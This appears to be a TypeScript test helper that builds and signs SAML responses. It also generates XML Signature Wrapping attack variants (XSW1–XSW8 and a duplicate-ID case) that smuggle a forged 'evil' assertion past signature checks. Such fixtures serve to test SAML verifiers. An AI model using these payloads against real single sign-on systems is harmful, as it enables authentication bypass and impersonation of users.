import { signXml } from "@node-saml/node-saml/lib/xml.js";

const protocol = "urn:oasis:names:tc:SAML:2.0:protocol";
const assertionNs = "urn:oasis:names:tc:SAML:2.0:assertion";
const responsePath = "/*[local-name(.)='Response']";
const assertionPath = `${responsePath}/*[local-name(.)='Assertion']`;

/** What an answer is made of; a text that is undefined is left out. */
export interface AnswerParts {
  readonly entityId: string;
  readonly audience: string | undefined;
  readonly acsUrl: string;
  readonly destination: string | undefined;
  readonly requestId: string | undefined;
  readonly confirmedRequestId: string | undefined;
  readonly recipient: string | undefined;
  readonly status: string;
  readonly subject: string;
  readonly format: string;
  readonly notBefore: string;
  readonly notOnOrAfter: string | undefined;
  readonly sessionNotOnOrAfter: string | undefined;
  readonly attributes: string;
  readonly authnStatement: boolean;
  readonly assertionId: string;
}

const attribute = (name: string, value: string | undefined) => (value === undefined ? "" : ` ${name}="${value}"`);

export function toAssertionXml(parts: AnswerParts): string {
  const audience =
    parts.audience &&
    `<saml:AudienceRestriction><saml:Audience>${parts.audience}</saml:Audience></saml:AudienceRestriction>`;
  const window = `${attribute("NotBefore", parts.notBefore)}${attribute("NotOnOrAfter", parts.notOnOrAfter)}`;
  const session = attribute("SessionNotOnOrAfter", parts.sessionNotOnOrAfter);
  const statement = `<saml:AuthnStatement AuthnInstant="${parts.notBefore}" SessionIndex="s1"${session}><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>`;
  const data = [
    attribute("NotOnOrAfter", parts.notOnOrAfter),
    attribute("Recipient", parts.recipient),
    attribute("InResponseTo", parts.confirmedRequestId),
  ].join("");
  return `<saml:Assertion xmlns:saml="${assertionNs}" ID="${parts.assertionId}" Version="2.0" IssueInstant="${parts.notBefore}"><saml:Issuer>${parts.entityId}</saml:Issuer><saml:Subject><saml:NameID Format="${parts.format}">${parts.subject}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData${data}/></saml:SubjectConfirmation></saml:Subject><saml:Conditions${window}>${audience ?? ""}</saml:Conditions>${parts.authnStatement ? statement : ""}<saml:AttributeStatement>${parts.attributes}</saml:AttributeStatement></saml:Assertion>`;
}

export function toResponseXml(parts: AnswerParts, inner = toAssertionXml(parts)): string {
  const to = `${attribute("Destination", parts.destination)}${attribute("InResponseTo", parts.requestId)}`;
  return `<samlp:Response xmlns:samlp="${protocol}" ID="_r1" Version="2.0" IssueInstant="${parts.notBefore}"${to}><saml:Issuer xmlns:saml="${assertionNs}">${parts.entityId}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${parts.status}"/></samlp:Status>${inner}</samlp:Response>`;
}

export function toAttributeXml(name: string, ...values: readonly string[]): string {
  const inner = values.map((value) => `<saml:AttributeValue>${value}</saml:AttributeValue>`).join("");
  return `<saml:Attribute Name="${name}">${inner}</saml:Attribute>`;
}

export interface Signing {
  readonly privateKey: string;
  readonly hash?: "sha1" | "sha256" | "sha512";
  readonly transforms?: string[];
}

export function signAssertion(xml: string, signing: Signing): string {
  return signAt(xml, assertionPath, signing);
}

export function signResponse(xml: string, signing: Signing): string {
  return signAt(xml, responsePath, signing);
}

function signAt(xml: string, path: string, { privateKey, hash = "sha256", transforms }: Signing): string {
  const location = { reference: `${path}/*[local-name(.)='Issuer']`, action: "after" } as const;
  return signXml(xml, path, location, {
    ...{ privateKey, signatureAlgorithm: hash, digestAlgorithm: hash },
    ...(transforms && { xmlSignatureTransforms: transforms }),
  });
}

const signaturePattern = /<Signature[\s>][\s\S]*?<\/Signature>/;

/**
 * The eight ways to wrap a signed element (Somorovsky et al., "On Breaking SAML", 2012) in a response whose assertion, or for 1
 * and 2 whose whole, was signed: what was signed moves to where it is verified and not read, `evil` to where it is read.
 */
export function wrapSignature(signed: string, evilAssertion: string): Readonly<Record<string, string>> {
  const [original = ""] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(signed) ?? [];
  const [signature = ""] = signaturePattern.exec(original) ?? [];
  const bare = original.replace(signature, "");
  const evil = evilAssertion;
  const withIn = (outer: string, added: string) => outer.replace("</saml:Issuer>", `</saml:Issuer>${added}`);
  const replaced = (by: string) => signed.replace(original, () => by);
  const withObject = (inner: string) =>
    signature.replace("</Signature>", () => `<Object>${inner}</Object></Signature>`);
  const evilResponse = replaced(evil).replace('ID="_r1"', 'ID="_evil"');
  return {
    "XSW1: the whole response inside the signature of another": withIn(
      evilResponse,
      withObject(signed.replace(signature, "")),
    ),
    "XSW2: the signed response beside a detached signature": withIn(
      evilResponse,
      signed.replace(signature, "") + signature,
    ),
    "XSW3: the evil assertion before the signed one": replaced(evil + original),
    "XSW4: the signed assertion inside the evil one": replaced(
      evil.replace("</saml:Assertion>", () => `${original}</saml:Assertion>`),
    ),
    "XSW5: the signature in the evil one, the signed one behind": replaced(withIn(evil, signature) + bare),
    "XSW6: the signed one inside the signature of the evil one": replaced(
      withIn(
        evil,
        signature.replace("</Signature>", () => `${bare}</Signature>`),
      ),
    ),
    "XSW7: the evil one in extensions": replaced(`<samlp:Extensions>${evil}</samlp:Extensions>${original}`),
    "XSW8: the signed one in an object of the evil one's signature": replaced(withIn(evil, withObject(bare))),
    "the same id twice": replaced(
      evil.replace(/ID="[^"]*"/, () => / ID="[^"]*"/.exec(original)?.[0].trim() ?? "") + original,
    ),
  };
}
